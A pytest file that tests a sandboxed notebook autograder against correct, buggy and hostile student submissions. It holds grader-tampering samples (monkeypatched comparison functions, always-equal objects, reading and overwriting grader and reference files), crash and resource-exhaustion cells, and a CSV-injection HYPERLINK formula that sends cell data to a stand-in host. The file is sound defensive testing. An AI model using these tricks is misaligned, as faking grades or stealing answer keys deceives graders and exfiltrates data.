"""Grading real submissions through the real sandbox: solutions, stubs, planted bugs and hostile notebooks.

Each hostile submission is the layers solution with one attack added; it must lose exactly the questions the
attack touches, the reason must show in the feedback, and the grader (its numpy, its files) must stay intact.
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import nbformat
import numpy as np
import pytest

from toynet.grading.assign import AssignmentError, build
from toynet.grading.grade import (
    Bundle,
    QuestionResult,
    SubmissionResult,
    grade_many,
    grade_submission,
    write_csv,
    write_results,
)
from toynet.grading.sandbox import Limits

ASSIGNMENTS = Path(__file__).resolve().parent / "fixtures" / "assignments"
LIMITS = Limits(question_timeout=3, cell_timeout=3, wall_clock=40, memory=1 << 30)
# A submission that loops forever is graded with 1.5 s limits: the grader stops a loop the same way at any limit, and
# the loop spins a CPU until it does. An honest cell or call of the layers notebook takes milliseconds.
LOOP_LIMITS = Limits(question_timeout=1.5, cell_timeout=1.5, wall_clock=40, memory=1 << 30)
LOOPS = {"infinite_loop_in_function", "infinite_loop_in_cell"}
FULL = {
    "linear_backward": 3, "relu_backward": 1, "sigmoid_backward": 1, "logistic_cost": 1, "logistic_cost_backward": 2
}


@pytest.fixture(scope="module")
def layers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("layers")
    build(ASSIGNMENTS / "layers.ipynb", out)
    return out


def grade(layers: Path, path: Path) -> SubmissionResult:
    return grade_submission(path, Bundle.load(layers / "autograder"), layers / "autograder", limits=LIMITS)


def scores(result: SubmissionResult) -> dict[str, float]:
    return {q.name: q.score for q in result.questions}


def feedback(result: SubmissionResult, question: str) -> str:
    return next(q.feedback for q in result.questions if q.name == question)


def variant(tmp_path: Path, edit: Callable[[list[str]], list[str]], name: str = "submission.ipynb") -> Path:
    """The layers solution with its code cells edited (question cells stay: the grader ignores them)."""
    notebook = nbformat.read(ASSIGNMENTS / "layers.ipynb", as_version=4)
    code = [c for c in notebook.cells if c.cell_type == "code" and "toynet" not in c.metadata]
    sources = edit([c.source for c in code])
    for cell, source in zip(code, sources[: len(code)], strict=True):
        cell.source = source
    for extra in sources[len(code) :]:
        notebook.cells.append(nbformat.v4.new_code_cell(extra))
    path = tmp_path / name
    nbformat.write(notebook, path)
    return path


def replace(old: str, new: str) -> Callable[[list[str]], list[str]]:
    def edit(sources: list[str]) -> list[str]:
        assert any(old in s for s in sources), old
        return [s.replace(old, new) for s in sources]

    return edit


def insert_cell(position: int, source: str) -> Callable[[list[str]], list[str]]:
    """Put a new cell before code cell `position` (shifting the later ones into appended cells)."""

    def edit(sources: list[str]) -> list[str]:
        return [*sources[:position], source, *sources[position:]]

    return edit


def test_solution_full_marks_student_copy_zero(layers: Path) -> None:
    assert scores(grade(layers, ASSIGNMENTS / "layers.ipynb")) == FULL
    result = grade(layers, layers / "student" / "layers.ipynb")
    assert result.score == 0 and result.max_score == sum(FULL.values())
    assert "Task Linear.backward" in feedback(result, "linear_backward")


def test_gradient_checking_assignment_builds_and_scores(tmp_path: Path) -> None:
    built = build(ASSIGNMENTS / "gradient_checking.ipynb", tmp_path, gradescope=True)
    assert built.solution.score == built.solution.max_score == 8 and built.stubbed.score == 0
    student = nbformat.read(built.student, as_version=4)
    text = "\n".join(c.source for c in student.cells)
    assert "HIDDEN" not in text and "0.17344196893145924" not in text and "thetaplus = theta + epsilon" not in text
    assert all(not c.get("outputs") for c in student.cells if c.cell_type == "code")
    import zipfile

    names = zipfile.ZipFile(built.gradescope).namelist()  # type: ignore[arg-type]
    assert {"setup.sh", "run_autograder", "autograder/assignment.json", "toynet-src/pyproject.toml"} <= set(names)


@pytest.mark.parametrize(
    ("gives", "held"),
    [
        # Network.forward's body names Linear, ReLU and Sigmoid: whole classes are carried, backward included,
        # and `from toynet.layers import Linear` would score linear_backward without a line written
        (["toynet.network:Network.forward"], "toynet.layers:Linear (carried)"),
        (["toynet.layers:Sigmoid.forward"], "toynet.layers:Sigmoid.forward (given)"),
    ],
)
def test_gives_that_hold_what_students_must_write_are_refused(tmp_path: Path, gives: list[str], held: str) -> None:
    shutil.copy(ASSIGNMENTS / "layers.ipynb", tmp_path)
    (tmp_path / "config.json").write_text(json.dumps({"layers": {"gives": gives}}))
    with pytest.raises(AssignmentError, match="the student's toynet would hold") as caught:
        build(tmp_path / "layers.ipynb", tmp_path / "out")
    assert held in str(caught.value)
    assert not (tmp_path / "out").exists()  # refused before anything is written or graded


@pytest.mark.parametrize(
    ("old", "new", "loses"),
    [
        ("dW = dZ @ A_prev.T", "dW = dZ @ A_prev.T * 2", {"linear_backward"}),
        ("dZ = dA * A * (1 - A)", "dZ = dA * A * (1 + A)", {"sigmoid_backward"}),
        ("dZ = np.where(Z > 0, dA, 0.0)", "dZ = np.where(Z >= -1, dA, 0.0)", {"relu_backward"}),
        ("dA = -(Y / A - (1 - Y) / (1 - A)) / m", "dA = -(Y / A - (1 - Y) / (1 - A))", {"logistic_cost_backward"}),
    ],
)
def test_planted_bugs_lose_exactly_their_questions(
    layers: Path, tmp_path: Path, old: str, new: str, loses: set
) -> None:
    result = grade(layers, variant(tmp_path, replace(old, new)))
    assert scores(result) == {name: 0 if name in loses else points for name, points in FULL.items()}


HOSTILE = {
    # name: (edit, questions lost, a phrase the feedback of the first lost question (or the output) must hold)
    "infinite_loop_in_function": (
        replace("dZ = np.where(Z > 0, dA, 0.0)", "while True: pass"), {"relu_backward"}, "no answer within"),
    "infinite_loop_in_cell": (insert_cell(2, "while True:\n    pass"), set(), "stopped and skipped"),
    "memory_hog": (replace("dZ = dA * A * (1 - A)", "hog = np.ones((1 << 32,))"), {"sigmoid_backward"}, "MemoryError"),
    "sys_exit": (replace("dW = dZ @ A_prev.T", "import sys; sys.exit(0)"), {"linear_backward"}, "SystemExit"),
    "os_exit": (
        replace("dZ = np.where(Z > 0, dA, 0.0)", "import os; os._exit(3)"), {"relu_backward"}, "exited with code 3"),
    "segfault": (
        replace("dZ = dA * A * (1 - A)", "import ctypes; ctypes.string_at(0)"), {"sigmoid_backward"}, "SIGSEGV"),
    "exit_in_cell": (insert_cell(1, "import os\nos._exit(0)"), set(), "stopped and skipped"),
    "megabytes_of_output": (  # printed by a cell (shown, truncated) and by every call (never shown)
        replace("dW = dZ @ A_prev.T", "print('x' * 5_000_000); dW = dZ @ A_prev.T"), set(), "first 2000 characters"),
    "prints_hidden_inputs": (replace("dW = dZ @ A_prev.T", "print('LEAK', dZ.shape); dW = dZ @ A_prev.T"), set(), ""),
    "syntax_error_in_one_cell": (
        replace("dZ = np.where(Z > 0, dA, 0.0)", "dZ = np.where(Z > 0, dA, 0.0"), {"relu_backward"}, "not defined"),
    "always_equal_object": (
        # an object comes back as a handle the grader never compares: its __eq__ runs nowhere here
        replace("return dA_prev, dW, db", "return (E(), E(), E())"),  # E defined in the cell below
        {"linear_backward"}, "expected a numpy array of shape (3, 4), but got the student's E object"),
    "numpy_subclass": (
        replace("dZ = dA * A * (1 - A)", "dZ = np.zeros_like(A).view(Liar)"), {"sigmoid_backward"}, "wrong values"),
    "monkeypatching": (
        replace("dW = dZ @ A_prev.T", "dW = dZ @ A_prev.T * 2"), {"linear_backward"}, "wrong values"),
    "reads_bundle_and_reference": (
        replace("dW = dZ @ A_prev.T", "dW = steal()"), {"linear_backward"}, "No such file"),  # not in its root
    "writes_grader_files": (replace("dW = dZ @ A_prev.T", "vandalise(); dW = dZ @ A_prev.T"), set(), "blocked"),
    "calls_reference": (
        replace("dW = dZ @ A_prev.T\n        db = np.sum(dZ, axis=1, keepdims=True)\n        dA_prev = W.T @ dZ",
                "from toynet.layers import Linear as Reference\n        return Reference.backward(dZ, cache)"),
        {"linear_backward"}, "toynet's reference"),
}

HELPERS = {
    "always_equal_object": "class E:\n    def __eq__(self, other):\n        return True\n    __hash__ = None",
    "numpy_subclass": (
        "class Liar(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(np.shape(self), bool)"
    ),
    "monkeypatching": (
        "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nexpect_array = lambda *a, **k: None\n"
        "import toynet, toynet.layers\n"
        "toynet.layers.Linear.backward = staticmethod(lambda dZ, cache: (0, 0, 0))"
    ),
    "reads_bundle_and_reference": (
        "def steal():\n    import glob, sys\n    found = []\n"
        "    for path in [BUNDLE + '/assignment.json', TOYNET + '/layers.py']:\n"
        "        found.append(open(path).read())\n"
        "    return found"
    ),
    "writes_grader_files": (
        "def vandalise():\n"
        "    for path in [BUNDLE + '/assignment.json', OUT + '/submission.json', TOYNET + '/layers.py']:\n"
        "        try:\n            open(path, 'w').write('{}')\n"
        "        except OSError as e:\n            print('blocked', e)\n\n\nvandalise()"
    ),
    "calls_reference": (
        "import sys\nsys.path.insert(0, REPO)\nfor name in [m for m in sys.modules if m.startswith('toynet')]:\n"
        "    del sys.modules[name]\n"
    ),
}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("attack", sorted(HOSTILE))
@pytest.mark.slow(2)
def test_hostile_submission_costs_only_its_points(layers: Path, tmp_path: Path, attack: str) -> None:
    import toynet

    edit, loses, phrase = HOSTILE[attack]
    toynet_dir = Path(toynet.__file__).resolve().parent
    constants = (f"BUNDLE = {str(layers / 'autograder')!r}\nTOYNET = {str(toynet_dir)!r}\n"
                 f"OUT = {str(tmp_path / 'out')!r}\nREPO = {str(toynet_dir.parent)!r}\n")

    def full_edit(sources: list[str]) -> list[str]:
        sources = [constants + sources[0] + "\n" + HELPERS.get(attack, ""), *sources[1:]]
        if attack == "megabytes_of_output":
            sources[0] += "\nprint('y' * 3_000_000)"
        return edit(sources)

    path = variant(tmp_path, full_edit)
    guarded = [layers / "autograder" / "assignment.json", toynet_dir / "layers.py"]
    before = [digest(p) for p in guarded]
    allclose = np.allclose
    limits = LOOP_LIMITS if attack in LOOPS else LIMITS
    [result] = grade_many([path], layers / "autograder", progress=False, limits=limits, protect=[tmp_path / "out"])
    written = write_results([result], tmp_path / "out")

    assert scores(result) == {name: 0 if name in loses else points for name, points in FULL.items()}
    text = (feedback(result, sorted(loses)[0]) if loses else "") + result.output
    assert phrase in text
    # the grader is intact: its numpy, its bundle, toynet's source, the results it wrote
    assert np.allclose is allclose and not np.allclose(0, 1)
    assert [digest(p) for p in guarded] == before
    assert json.loads(written[0].read_text())["score"] == result.score
    assert "test failed" not in result.output
    assert "LEAK" not in json.dumps(result.gradescope())  # output during calls (hidden inputs) is never shown


def test_notebook_that_is_not_json(layers: Path, tmp_path: Path) -> None:
    path = tmp_path / "broken.ipynb"
    path.write_text('{"cells": [ this is not json')
    result = grade(layers, path)
    assert result.score == 0 and "not a valid notebook" in feedback(result, "linear_backward")


@pytest.mark.slow(2)
def test_a_class_in_parallel_with_csv(layers: Path, tmp_path: Path) -> None:
    good = variant(tmp_path, lambda s: s, "good.ipynb")
    buggy = variant(tmp_path, replace("dW = dZ @ A_prev.T", "dW = dZ @ A_prev.T * 2"), "buggy.ipynb")
    looping = variant(tmp_path, insert_cell(1, "while True:\n    pass"), "looping.ipynb")
    broken = tmp_path / "broken.ipynb"
    broken.write_text("nope")
    results = grade_many([good, buggy, looping, broken], layers / "autograder", jobs=2, progress=False,
                         limits=LOOP_LIMITS)
    assert [r.score for r in results] == [8, 5, 8, 0]
    write_results(results, tmp_path / "grades")
    rows = (tmp_path / "grades" / "class.csv").read_text().splitlines()
    # one row per submission, named by its path (absolute: tmp_path is outside the current folder), sorted by name
    assert rows[0].startswith("submission,linear_backward") and len(rows) == 5
    assert rows[2] == f"{buggy},0,1,1,1,2,5,8"


def test_class_csv_never_holds_a_formula(tmp_path: Path) -> None:
    """A submission's file name is the student's to choose; a spreadsheet runs a cell that starts with = + - @
    (OWASP's "CSV injection"), so such a name is written as text."""
    names = ['=HYPERLINK("http://example.invalid/?"&B2,"see")', "+1+1", "-2+3", "@SUM(1)", "fine.ipynb"]
    results = [SubmissionResult(name, [QuestionResult("q", 1.0, 1.0, "passed")]) for name in names]
    rows = list(csv.reader(write_csv(results, tmp_path / "class.csv").read_text().splitlines()))
    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + name for name in names[:-1]] + ["fine.ipynb"])
